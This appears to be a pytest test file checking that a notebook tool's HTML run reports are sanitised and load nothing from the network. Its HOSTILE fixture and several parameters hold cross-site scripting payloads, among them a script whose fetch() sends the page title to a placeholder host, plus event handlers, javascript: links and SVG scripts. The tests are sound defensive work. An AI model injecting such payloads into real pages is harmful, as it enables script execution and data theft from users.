"""One HTML file that asks nobody for anything and shows what it should."""

import contextlib
import re
from html.parser import HTMLParser

import pytest

from workbench import runs

FIGURE = """import matplotlib.pyplot as plt
fig, ax = plt.subplots()
ax.plot([1, 2, 3]);"""
HOSTILE = """import pandas as pd
address = 'https://example.org/a'
from IPython.display import HTML, Markdown, SVG, Javascript, display
name = '<script>fetch("https://example.org/?" + document.title)</script>'
display(pd.DataFrame({'sensor': [name]}))
display(HTML(f'<b onmouseover="x()" style="background:url({address})">{name}</b>'))
display(HTML(f'<img src="{address}.png"><iframe src="{address}"></iframe>'))
display(Markdown(f'alert on {name} <a href="javascript:x()">here</a>'))
svg = '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><script>x()</script></svg>'
display(SVG(svg))
display(Javascript('x()'))
print(name)"""


class Page(HTMLParser):
    """What a report holds, as a browser would see it."""

    def __init__(self, text):
        super().__init__()
        self.elements, self.loads, self.ids = [], [], set()
        self.feed(text)

    def handle_starttag(self, tag, attributes):
        attributes = dict(attributes)
        self.elements.append((tag, attributes))
        self.ids.add(attributes.get("id"))
        for name in ("src", "srcset", "data", "poster", "background", "action"):
            if name in attributes:
                self.loads.append(attributes[name])
        if tag == "link" and "href" in attributes:
            self.loads.append(attributes["href"])

    def named(self, tag):
        return [attributes for name, attributes in self.elements if name == tag]


@pytest.fixture(scope="module")
def report(tmp_path_factory, project_in):
    """One run that shows everything there is to show; the tests only look at its report."""
    path = tmp_path_factory.mktemp("report")
    with contextlib.chdir(path):
        return tell(project_in(path))


def tell(project):
    notebook = project.notebook(
        "## The `readings`\n\nWe expect *three* points (in bar).",
        FIGURE,
        "### What of it?\n\nNothing. <script>x()</script>",
        HOSTILE,
        "from workbench.runs import record\nrecord({'recall': 0.75, 'sensor': '<script>x()'})",
    )
    return runs.train(notebook, project.params("sensor: <script>alert(1)</script>"))


@pytest.mark.notebook
def test_a_report_loads_nothing_and_runs_nothing_that_came_from_data(report):
    text = (report.path / "report.html").read_text()
    page = Page(text)

    assert [element[:15] for element in page.loads] == ["data:image/png;", "data:image/svg+"]
    assert not {"script", "iframe", "link", "svg", "object"} & {tag for tag, _ in page.elements}
    assert not [name for _, some in page.elements for name in some if name.startswith("on")]
    assert not [element for element in page.named("a") if "javascript" in str(element)]
    assert not [some for _, some in page.elements if "style" in some]
    assert "url(" not in text[: text.index("</style>")]
    policy = next(element for element in page.named("meta") if "http-equiv" in element)
    assert policy["content"].startswith("default-src 'none'")
    assert len(text) < 2_000_000


@pytest.mark.notebook
def test_a_report_has_contents_that_lead_somewhere_figures_with_words_and_folded_code(report):
    page = Page((report.path / "report.html").read_text())

    targets = [
        element["href"][1:] for element in page.named("a") if element.get("href", "")[:1] == "#"
    ]
    assert targets == ["The-readings", "What-of-it?", "provenance"]
    assert set(targets) <= page.ids
    assert page.named("img")[0]["alt"] == "Figure 1: We expect three points (in bar)."
    assert all(
        "open" not in element
        for element in page.named("details")
        if element.get("class") == "input"
    )
    assert any("viewport" in element.values() for element in page.named("meta"))


@pytest.mark.notebook
def test_a_browser_without_a_network_shows_a_report_without_a_request(report, chromium):
    asked = []
    page = chromium.new_context(offline=True).new_page()
    page.on("request", lambda request: asked.append(request.url))

    page.goto(f"file://{report.path}/report.html")

    images = page.evaluate("[...document.images].map(one => one.naturalWidth)")
    assert [one for one in asked if not one.startswith("data:")] == [
        f"file://{report.path}/report.html"
    ]
    assert all(width > 0 for width in images)


@pytest.mark.notebook
def test_a_story_tells_several_runs_as_chapters_of_one_page(project):
    for name in ("00_look", "20_train"):
        project.notebook(f"## What {name} does", "print(window)", name=f"{name}.ipynb")
    names = ("notebooks/00_look.ipynb", "notebooks/20_train.ipynb")
    made = [runs.train(name, {"window": 30}) for name in names]

    path = runs.write_story(
        made,
        project.path / "story.html",
        title="A <day> at the plant",
        summary=[("faults found", "8 < 9")],
    )

    page = Page(text := path.read_text())
    targets = [one["href"][1:] for one in page.named("a")]
    assert targets == ["part-1", "part-1-What-00_look-does", "part-2", "part-2-What-20_train-does"]
    assert set(targets) <= page.ids
    assert len([tag for tag, _ in page.elements if tag == "h1"]) == 1
    assert "<h1>A &lt;day&gt; at the plant</h1>" in text
    assert "<dt>faults found</dt><dd>8 &lt; 9</dd>" in text
    assert page.loads == []
    assert len(re.findall("<summary>Provenance</summary>", text)) == 2


@pytest.mark.notebook
def test_a_sweep_report_sorts_and_filters_and_links_to_its_runs(project):
    playwright = pytest.importorskip("playwright.sync_api")
    project.notebook(
        "from workbench.runs import record\nimport matplotlib.pyplot as plt\n"
        "figure, axes = plt.subplots()\nplt.close(figure)\n"
        "found = {'window': window, 'false_alerts_per_day': window, 'recall': window / 100}\n"
        "record(found, figures={'pr': figure})"
    )
    file = project.params(
        "notebook: notebooks/20_try.ipynb\ngrid: {window: [9, 30, 100]}\n"
        "repeat: {sensor: ['<script>x()</script>']}"
    )
    made = runs.sweep([file], jobs=2, metric="recall")
    text = (made.path / "report.html").read_text()
    page = Page(text)

    assert all(item.startswith("data:image/") for item in page.loads)
    assert len(page.named("script")) == 1
    assert "Candidates, mean over sensor" in text
    links = {item["href"] for item in page.named("a")}
    assert links == {f"../{run.id}/report.html" for run in made}
    asked = []
    with playwright.sync_playwright() as browsers:
        try:
            browser = browsers.chromium.launch(
                executable_path="/usr/bin/chromium", args=["--no-sandbox"]
            )
        except playwright.Error:
            pytest.skip("there is no Chromium here")
        tab = browser.new_context(offline=True).new_page()
        tab.on("request", lambda request: asked.append(request.url))
        tab.goto(f"file://{made.path}/report.html")
        windows = "[...document.querySelectorAll('#runs tbody tr:not([hidden])')]"
        windows += ".map(row => Number(row.cells[1].textContent))"
        best_first = tab.evaluate(windows)
        tab.click("#runs th:nth-child(2) button")
        ascending = tab.evaluate(windows)
        tab.fill("#filter", "0.3")
        filtered = tab.evaluate(windows)
        browser.close()

    assert (best_first, ascending, filtered) == ([100, 30, 9], [9, 30, 100], [30])
    assert [item for item in asked if not item.startswith("data:")] == [
        f"file://{made.path}/report.html"
    ]
